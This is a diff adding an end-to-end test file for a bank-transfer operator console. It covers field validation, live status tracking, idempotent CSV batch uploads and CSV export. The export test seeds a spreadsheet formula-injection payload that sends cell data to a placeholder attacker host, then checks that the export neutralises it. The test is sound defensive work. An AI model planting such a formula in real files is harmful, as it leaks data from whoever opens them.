@@ -1,0 +1,168 @@
+import { readFile } from 'node:fs/promises';
+import { describeWithChromium, launchChromium, type TestBrowser } from '../support/chromium';
+import { FROM_CVU, TO_CBU, transferRequest } from '../support/reconciler-harness';
+import { waitUntil } from '../support/wait-until';
+import { type ConsoleStack, goTo, screenshot, signIn, startConsoleStack, watchPage } from './console-stack';
+
+// The console in Chromium, for an operator: a transfer created from its form (the API's field errors beside the
+// fields) and watched to its final status without a reload; a CSV batch previewed, confirmed, and sent again to
+// no effect; the current search exported as CSV, a formula in a description neutralised.
+
+const FROM_CUIT = transferRequest().from.owner.personId;
+const TO_CUIT = transferRequest().to.owner.personId;
+
+describeWithChromium('the operator console at work (Chromium)', () => {
+  let stack: ConsoleStack;
+  let browser: TestBrowser;
+  let operator: string;
+
+  beforeAll(async () => {
+    [stack, browser] = await Promise.all([startConsoleStack(), launchChromium()]);
+    operator = await stack.createKey('ops', 'operator');
+  }, 60_000);
+  afterAll(async () => {
+    await browser?.close();
+    await stack?.close();
+  });
+
+  it('creates a transfer, shows the field errors beside their fields, and follows it to COMPLETED live', async () => {
+    const page = await browser.context.newPage();
+    const seen = watchPage(page);
+    await signIn(page, stack.url, operator);
+    await goTo(page, 'new');
+    await page.getByLabel('CBU/CVU de origen').fill(FROM_CVU);
+    await page.getByLabel('CUIT del titular de origen').fill(FROM_CUIT);
+    // A destination whose check digits are wrong: the API's 400 names `to.address`.
+    await page.getByLabel('CBU/CVU de destino').fill(`${TO_CBU.slice(0, 21)}${(Number(TO_CBU[21]) + 1) % 10}`);
+    await page.getByLabel('CUIT/CUIL del destinatario').fill(TO_CUIT);
+    await page.getByLabel('Importe').fill('1.234,50');
+    await page.getByLabel('Descripción').fill('alquiler noviembre');
+    await page.getByLabel('originId (opcional)').fill('5101');
+    await page.getByRole('button', { name: 'Crear transferencia' }).click();
+
+    const destination = page.getByLabel('CBU/CVU de destino');
+    await page.getByText('Revisá los campos marcados.').waitFor();
+    expect(await destination.getAttribute('aria-invalid')).toBe('true');
+    const errorId = (await destination.getAttribute('aria-describedby')) ?? '';
+    expect(await page.locator(`[id="${errorId}"]`).textContent()).toMatch(/check digit|dígito/i);
+    expect(await page.getByLabel('CBU/CVU de origen').getAttribute('aria-invalid')).toBeNull();
+    await screenshot(page, 'create-field-error');
+    expect((await stack.api('GET', '/admin/transfers/5101')).status).toBe(404);
+
+    // Marked on the window: a reload would lose it, so its survival proves the page never reloaded.
+    await page.evaluate('window.__sameDocument = true');
+    await destination.fill(TO_CBU);
+    await page.getByRole('button', { name: 'Crear transferencia' }).click();
+    await page.getByRole('heading', { name: /Transferencia 5101/ }).waitFor();
+
+    await goTo(page, 'transfers');
+    const row = page.locator('tr[data-origin-id="5101"]');
+    await row.waitFor();
+    const firstStatus = (await row.locator('.status').textContent()) ?? '';
+    expect(['Pendiente', 'Creada', 'En curso']).toContain(firstStatus);
+    expect(await row.locator('.money').textContent()).toBe('$\u00a01.234,50');
+    await screenshot(page, 'transfers-live-before');
+    await row.locator('.status', { hasText: 'Completada' }).waitFor({ timeout: 20_000 });
+    expect(await page.evaluate('window.__sameDocument === true')).toBe(true);
+    await screenshot(page, 'transfers-live-completed');
+    expect((await stack.api('GET', '/admin/transfers/5101')).json.status).toBe('COMPLETED');
+    expect(seen.errors).toEqual([]);
+    await page.close();
+  });
+
+  it('previews a CSV batch naming its bad row, sends nothing until confirmed, and nothing twice', async () => {
+    const badTo = `${TO_CBU.slice(0, 21)}${(Number(TO_CBU[21]) + 1) % 10}`;
+    const csv = [
+      'originId,fromAddress,fromCuit,toAddress,toCuit,currencyId,amount,description,concept',
+      `5201,${FROM_CVU},${FROM_CUIT},${TO_CBU},${TO_CUIT},032,1500.00,honorarios octubre,HON`,
+      `5202,${FROM_CVU},${FROM_CUIT},${TO_CBU},${TO_CUIT},032,2500.50,"alquiler, cochera",ALQ`,
+      `5203,${FROM_CVU},${FROM_CUIT},${badTo},${TO_CUIT},032,99.99,cuenta mal escrita,VAR`,
+    ].join('\n');
+    const file = { name: 'lote-noviembre.csv', mimeType: 'text/csv', buffer: Buffer.from(csv) };
+    const page = await browser.context.newPage();
+    const seen = watchPage(page);
+    await signIn(page, stack.url, operator);
+    await goTo(page, 'batch');
+    await page.getByLabel('Archivo CSV').setInputFiles(file);
+    await page.getByRole('button', { name: 'Vista previa' }).click();
+
+    // The bad row is named by its line in the file (header = 1) and its error by the CSV column.
+    const bad = page.locator('tr[data-row="4"]');
+    await bad.waitFor();
+    expect(await bad.textContent()).toContain('5203');
+    expect(await bad.textContent()).toContain('toAddress');
+    expect(await page.locator('tr.row-invalid').count()).toBe(1);
+    expect(await page.getByRole('status').textContent()).toBe(
+      'Para crear: 2 · ya existen: 0 · con errores o en conflicto: 1.',
+    );
+    await screenshot(page, 'batch-preview');
+    const before = stack.bank.ledger.size;
+    for (const originId of [5201, 5202, 5203]) {
+      expect((await stack.api('GET', `/admin/transfers/${originId}`)).status).toBe(404);
+    }
+
+    await page.getByRole('button', { name: 'Confirmar y enviar las filas para crear (2)' }).click();
+    await page.getByText('Creadas: 2 · ya existían: 0 · no creadas: 1.').waitFor();
+    await screenshot(page, 'batch-sent');
+    expect((await stack.api('GET', '/admin/transfers/5201')).json.amount).toBe('1500.00');
+    expect((await stack.api('GET', '/admin/transfers/5202')).json.description).toBe('alquiler, cochera');
+    expect((await stack.api('GET', '/admin/transfers/5203')).status).toBe(404);
+    await waitUntil(
+      () => stack.bank.ledger.size === before + 2,
+      10_000,
+      () => stack.bank.ledger.size,
+    );
+
+    // The same file again: the preview says both exist, and the page offers nothing to send.
+    const listed = async () => (await stack.api('GET', '/admin/transfers?limit=500', {})).json.items.length;
+    const count = await listed();
+    // Previewed again as it is, without choosing the file anew: the new preview replaces the last result.
+    await page.getByRole('button', { name: 'Vista previa' }).click();
+    await page.getByText('Para crear: 0 · ya existen: 2 · con errores o en conflicto: 1.').waitFor();
+    expect(await page.getByRole('button', { name: 'Confirmar y enviar las filas para crear (0)' }).isDisabled()).toBe(
+      true,
+    );
+    await screenshot(page, 'batch-again');
+    // And the API, sent the file for real, creates nothing either.
+    const again = await stack.api('POST', '/admin/transfers/batch', { key: operator, csv });
+    expect(again.status).toBe(200);
+    expect(again.json.summary).toMatchObject({ created: 0, replayed: 2, invalid: 1 });
+    expect(await listed()).toBe(count);
+    expect(stack.bank.ledger.size).toBe(before + 2);
+    expect(seen.errors).toEqual([]);
+    await page.close();
+  });
+
+  it('exports the current search as CSV with a formula in a description neutralised', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"ver factura")';
+    for (const [originId, description] of [
+      [5301, formula],
+      [5302, 'factura 5302 sin fórmula'],
+    ] as const) {
+      const created = await stack.api('POST', '/admin/transfers', { body: transferRequest({ originId, description }) });
+      expect(created.status).toBe(201);
+    }
+    const page = await browser.context.newPage();
+    await signIn(page, stack.url, operator);
+    await goTo(page, 'transfers');
+    await page.getByLabel('Texto en la descripción').fill('factura');
+    await page.getByRole('button', { name: 'Buscar' }).click();
+    await page.locator('tr[data-origin-id="5301"]').waitFor();
+    expect(await page.locator('tbody tr').count()).toBe(2);
+    const [download] = await Promise.all([
+      page.waitForEvent('download'),
+      page.getByRole('button', { name: 'Exportar CSV' }).click(),
+    ]);
+    const csv = await readFile(await download.path(), 'utf8');
+    await screenshot(page, 'transfers-export');
+
+    const lines = csv.trim().split(/\r?\n/);
+    // The header and the two transfers the search found: the export is the search, not every transfer.
+    expect(lines).toHaveLength(3);
+    const line = lines.find((text) => text.includes('HYPERLINK')) ?? '';
+    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""ver factura"")"`);
+    expect(line).not.toMatch(/(^|,)"?=/);
+    expect(csv).toContain('factura 5302 sin fórmula');
+    await page.close();
+  });
+});
